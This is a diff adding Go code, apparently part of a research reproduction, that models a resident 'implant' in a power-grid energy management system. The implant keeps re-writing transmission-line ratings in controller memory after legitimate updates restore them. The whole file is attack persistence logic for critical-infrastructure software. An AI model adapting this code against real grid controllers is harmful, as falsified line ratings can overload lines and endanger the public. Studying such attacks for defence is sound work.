@@ -1,0 +1,82 @@
+package ems
+
+import "fmt"
+
+// Implant models the dormancy aspect of the paper's threat: the corruption
+// "can remain dormant in controller's memory and can produce the intended
+// consequences … before the last line of defense [is] triggered"
+// (Section I). A one-shot overwrite is undone by the next legitimate DLR
+// ingest (which writes fresh values over the same fields); a resident
+// implant instead re-applies the manipulation whenever the parameter block
+// changes — exactly what a thread planted by the exploit would do.
+type Implant struct {
+	proc    *Process
+	exploit *Exploit
+	// attack maps line index → the rating (MVA) to maintain.
+	attack map[int]float64
+	// addrs caches the located rating addresses.
+	addrs map[int]uint64
+	// Applied counts the (re-)corruption events.
+	Applied int
+}
+
+// NewImplant plants a resident manipulation: it locates each target line's
+// rating once (scan + signature + name disambiguation, via the exploit) and
+// remembers the addresses for cheap re-application.
+func NewImplant(p *Process, e *Exploit, attack map[int]float64, knownRatings map[int]float64) (*Implant, error) {
+	rep, err := RunAttack(p, e, attack, knownRatings)
+	if err != nil {
+		return nil, fmt.Errorf("ems: planting implant: %w", err)
+	}
+	addrs := make(map[int]uint64, len(rep.Lines))
+	for _, lr := range rep.Lines {
+		addrs[lr.Report.Line] = lr.Addr
+	}
+	imp := &Implant{
+		proc:    p,
+		exploit: e,
+		attack:  cloneDLRMap(attack),
+		addrs:   addrs,
+		Applied: 1,
+	}
+	return imp, nil
+}
+
+func cloneDLRMap(in map[int]float64) map[int]float64 {
+	out := make(map[int]float64, len(in))
+	for k, v := range in {
+		out[k] = v
+	}
+	return out
+}
+
+// Tick is the implant's beacon: called periodically (the paper's exploit
+// restarts the control loop via CreateThread; ours runs inline), it checks
+// whether a legitimate update overwrote the manipulation and re-applies it.
+// It returns how many fields it had to fix this tick.
+func (imp *Implant) Tick() (int, error) {
+	fixed := 0
+	for li, want := range imp.attack {
+		addr, ok := imp.addrs[li]
+		if !ok {
+			return fixed, fmt.Errorf("ems: implant has no address for line %d", li)
+		}
+		cur, err := imp.proc.loadRating(addr)
+		if err != nil {
+			return fixed, fmt.Errorf("ems: implant read: %w", err)
+		}
+		// Tolerance must exceed float32 storage quantization, or the
+		// implant would rewrite its own value forever.
+		tol := 1e-4 * (1 + want)
+		if diffMVA := cur - want; diffMVA > tol || diffMVA < -tol {
+			if err := imp.exploit.Corrupt(imp.proc, addr, want); err != nil {
+				return fixed, fmt.Errorf("ems: implant rewrite: %w", err)
+			}
+			fixed++
+		}
+	}
+	if fixed > 0 {
+		imp.Applied++
+	}
+	return fixed, nil
+}
